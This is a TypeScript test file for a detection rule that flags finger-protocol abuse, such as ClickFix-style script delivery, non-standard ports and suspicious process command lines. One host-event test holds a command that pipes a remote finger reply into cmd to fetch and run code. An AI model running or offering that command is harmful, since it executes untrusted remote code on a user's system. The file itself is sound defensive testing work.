import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import path from 'node:path'
import { test } from 'node:test'
import { runAppLayer } from '../../test/helpers/run-app-layer.js'
import type { DetectionContext } from '../detection.js'
import type { FlowRecord, HostEvent } from '../events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../net/address-set.js'
import def from './finger.js'

const ROOT = path.resolve(import.meta.dirname, '../..')
const CORPUS = path.resolve(ROOT, '../shared/corpus')
const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
const run = (f: string) => runAppLayer(path.join(ROOT, f), { detections: [def] }).alerts

test('ClickFix-style script reply over finger to an external host is high', () => {
  const a = run('pcaps/finger/finger-clickfix-script.pcap')
  assert.equal(a.length, 1)
  assert.equal(a[0]?.severity, 'high')
  assert.equal(a[0]?.technique, 'T1105')
  assert.equal(a[0]?.resp_p, 79)
  assert.equal(a[0]?.details?.reply_type, 'script')
  assert.equal(a[0]?.details?.reply_bytes, 1996)
  assert.ok(a[0]?.reasons.some((r) => r.includes('script')))
  assert.ok(a[0]?.reasons.some((r) => r.includes('larger than 1024')))
})

test('finger on a non-79 port is found and scored; plain efingerd replies stay at medium', () => {
  const p = run('pcaps/finger/finger-port-7979.pcap')
  assert.equal(p.length, 1)
  assert.equal(p[0]?.resp_p, 7979)
  assert.equal(p[0]?.severity, 'high')
  assert.ok(p[0]?.reasons.some((r) => r.includes('TCP/7979')))
  const e = run('pcaps/finger/finger-efingerd.pcap')
  assert.deepEqual(
    e.map((x) => [x.details?.query, x.severity]),
    [
      ['ftp', 'medium'],
      ['/W nobody', 'medium'],
    ],
  )
})

test('flow exports and logs: TCP/79 by port alone; packet flows are left to the finger events', () => {
  const inst = def.create(def.params, ctx)
  const flow = (source_kind: FlowRecord['source_kind'], resp_h: string): FlowRecord => ({
    kind: 'flow',
    ts: 1700000000,
    source: 'netflow:192.0.2.1',
    source_kind,
    uid: 'Cflow',
    orig_h: '10.1.1.5',
    orig_p: 50123,
    resp_h,
    resp_p: 79,
    proto: 'tcp',
    service: '',
    duration: 1,
    orig_bytes: 12,
    resp_bytes: 4000,
    orig_ip_bytes: 100,
    resp_ip_bytes: 4100,
    orig_pkts: 3,
    resp_pkts: 4,
    history: '',
    conn_state: 'SF',
    end_reason: 'export',
  })
  const a = inst.onEvent(flow('netflow', '203.0.113.9')) ?? []
  assert.equal(a.length, 1)
  assert.ok(a[0]?.reasons[0]?.includes('by port alone'))
  // 15 finger by port + 15 external + 10 large reply (calibrated, docs/alerts.md): medium before context.
  assert.equal(a[0]?.score, 40)
  assert.equal(inst.onEvent(flow('pcap', '203.0.113.9')), undefined)
  const internal = inst.onEvent(flow('syslog', '10.1.1.9')) ?? []
  assert.equal(internal[0]?.technique, 'T1570')
  assert.ok((internal[0]?.score ?? 0) < (a[0]?.score ?? 0))
})

test('host events: finger user@host | cmd is high, a bare finger is low, other processes nothing', () => {
  const inst = def.create(def.params, ctx)
  const proc = (image: string, cmd: string): HostEvent => ({
    kind: 'host',
    ts: 1700000000,
    source: 'syslog',
    host: 'ws01',
    event_id: 'sysmon:1',
    action: 'process',
    image,
    command_line: cmd,
    raw: '',
  })
  const click =
    inst.onEvent(proc('C:\\Windows\\System32\\cmd.exe', 'cmd /c finger admin@198.51.100.80 | more +2 | cmd')) ?? []
  assert.equal(click[0]?.severity, 'high')
  assert.equal(click[0]?.host, 'ws01')
  const bare = inst.onEvent(proc('C:\\Windows\\System32\\finger.exe', 'finger')) ?? []
  assert.equal(bare[0]?.severity, 'low')
  assert.equal(inst.onEvent(proc('C:\\Windows\\System32\\notepad.exe', 'notepad fingerprint.txt')), undefined)
})

test('corpus: Zeek finger trace is an outbound session with a large text reply, not a script', {
  skip: existsSync(CORPUS) ? false : 'corpus ../shared/corpus not present',
}, () => {
  const a = runAppLayer(path.join(CORPUS, 'pcap/finger/zeek_finger_standard.pcap'), { detections: [def] }).alerts
  assert.equal(a.length, 1)
  assert.equal(a[0]?.orig_h, '192.168.7.216')
  assert.equal(a[0]?.resp_h, '95.179.238.241')
  assert.equal(a[0]?.details?.reply_type, 'text')
  assert.equal(a[0]?.severity, 'medium')
  assert.ok(!a[0]?.reasons.some((r) => r.includes('script')))
})
